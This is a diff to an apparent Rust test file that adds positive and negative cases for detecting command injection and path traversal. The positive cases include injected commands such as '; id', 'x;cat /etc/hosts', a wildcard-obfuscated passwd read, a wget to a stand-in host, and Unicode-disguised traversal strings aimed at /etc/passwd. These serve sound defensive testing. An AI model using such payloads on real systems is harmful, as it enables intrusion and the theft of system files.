@@ -64,6 +64,8 @@ fn cmdi_needs_command_position_and_shell_shape() {
             "ls -la /",
             "x;/???/??t /???/p??s??",
             "a\nwget http://x.example/s",
+            "; id",
+            "x;cat /etc/hosts",
         ],
         &[
             "echo in the mirror",
@@ -78,6 +80,9 @@ fn cmdi_needs_command_position_and_shell_shape() {
             "date - 2020",
             "C# and F#",
             "user@example.com",
+            "Echo in the mirror; cat on the mat",
+            "data:image/png;base64,iVBORw0KGgo=",
+            "a;sleep,wake;repeat",
         ],
     );
 }
@@ -93,6 +98,10 @@ fn traversal_needs_a_following_segment() {
             "....//....//etc",
             "..;/admin",
             "file=../config",
+            "../../assets/img/x.png",
+            "../secret.txt",
+            "..\u{2216}..\u{2216}etc\u{2216}passwd",
+            "\u{ff0e}\u{ff0e}/\u{ff0e}\u{ff0e}/etc/passwd",
         ],
         &[
             "how to use ../ in bash",
@@ -100,6 +109,8 @@ fn traversal_needs_a_following_segment() {
             "1..10",
             "version 2..3",
             "see the docs..",
+            "../assets/img/logo.png",
+            "see [the guide](../docs/setup.md) first",
         ],
     );
     check(
